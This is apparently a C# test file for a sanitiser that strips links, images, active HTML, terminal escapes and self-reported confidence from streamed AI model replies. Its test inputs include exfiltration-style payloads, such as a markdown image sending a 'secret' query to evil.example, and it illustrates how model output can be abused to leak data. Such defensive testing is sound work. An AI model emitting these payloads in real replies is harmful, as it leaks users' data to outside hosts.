using Footnote.Answering;
using FsCheck;
using FsCheck.Fluent;

namespace Footnote.Tests.Answering;

public sealed class ModelTextTests
{
    private static readonly string[] Pieces =
    [
        "It", "halts", "[1]", "[2, 3]", "[99]", "![x](http://evil.example/?q=1)", "[a](b)", "[", "]", "(", ")", "](", "`", "``", "```\n", "~~~\n", "\n", "\n\n", "<img src=x>", "<a", "Confidence: 99 %",
        "My", "confidence", "is", "high", ".", "| a | b |\n|---|---|\n", "- ", "[ref]: http://x", "\u202E", "\e[31m", "!", "<https://x.example>", "🙂", "\\", "\t",
    ];

    private static Arbitrary<string> Replies => Gen.Elements(Pieces).ListOf().Select(pieces => string.Join(' ', pieces)).ToArbitrary();

    [Theory]
    [InlineData("See ![x](http://evil.example/?q=secret) now.", "See x (http://evil.example/?q=secret) now.")]
    [InlineData("See [the manual](http://evil.example) now.", "See the manual (http://evil.example) now.")]
    [InlineData("[![x](http://a.example)](http://b.example)", "x (http://a.example) (http://b.example)")]
    [InlineData("<img src=\"http://evil.example\">", "< img src=\"http://evil.example\">")]
    [InlineData("See <https://evil.example/> now.", "See https://evil.example/ now.")]
    [InlineData("[x]: http://evil.example", "[x] : http://evil.example")]
    [InlineData("`handlers[i](x)`", "`handlers[i] (x)`")]
    [InlineData("A [1], b[2] and [31:0] and vector<int> stay.", "A [1], b[2] and [31:0] and vector<int> stay.")]
    [InlineData("Red \e[31malarm\u202E.", "Red [31malarm.")]
    public void Links_images_and_active_html_become_text(string text, string expected) => Assert.Equal(expected, Clean(text));

    [Theory]
    [InlineData("It halts [1].\nConfidence: 99 %", "It halts [1].")]
    [InlineData("It halts [1]. **Confidence:** high", "It halts [1].")]
    [InlineData("It halts [1].\n\nMy overall confidence level is 95%.\nDone [2].", "It halts [1].\n\n\nDone [2].")]
    [InlineData("(Confidence score = 0.97)", "")]
    [InlineData("Confidence: 9/10", "")]
    public void What_a_model_says_of_its_confidence_is_dropped(string text, string expected) => Assert.Equal(expected, Clean(text).TrimEnd());

    [Theory]
    [InlineData("The confidence level is 95 % [1].")]
    [InlineData("Confidence: 95 % [1].")]
    [InlineData("A confidence interval holds the mean [1].")]
    public void What_a_document_says_of_confidence_stays(string text) => Assert.Equal(text, Clean(text));

    [Fact]
    public void The_text_does_not_depend_on_how_it_arrives() => Prop.ForAll(Replies, Gen.Choose(1, 7).ToArbitrary(), (reply, size) =>
        Clean(reply) == string.Concat(Settled(reply.Chunk(size).Select(chunk => new string(chunk))))).QuickCheckThrowOnFailure();

    [Fact]
    public void Nothing_that_comes_out_is_a_link_an_image_or_active_html() => Prop.ForAll(Replies, reply =>
    {
        var clean = Clean(reply);
        return !clean.Contains("](", StringComparison.Ordinal) && !clean.Contains("<img", StringComparison.Ordinal) && !clean.Contains("<a ", StringComparison.Ordinal) && !clean.Contains('\e', StringComparison.Ordinal);
    }).QuickCheckThrowOnFailure();

    [Fact]
    public void Words_come_out_as_soon_as_they_are_whole()
    {
        var text = new ModelText();

        Assert.Equal(["The "], text.Append("The val").Select(piece => piece.Text));
        Assert.Equal(["valve "], text.Append("ve op").Select(piece => piece.Text));
        Assert.Equal("op", text.Complete().Text);
    }

    private static string Clean(string text) => string.Concat(Settled([text]));

    private static IEnumerable<string> Settled(IEnumerable<string> deltas)
    {
        var text = new ModelText();
        foreach (var piece in deltas.SelectMany(text.Append))
        {
            yield return piece.Text;
        }

        yield return text.Complete().Text;
    }
}
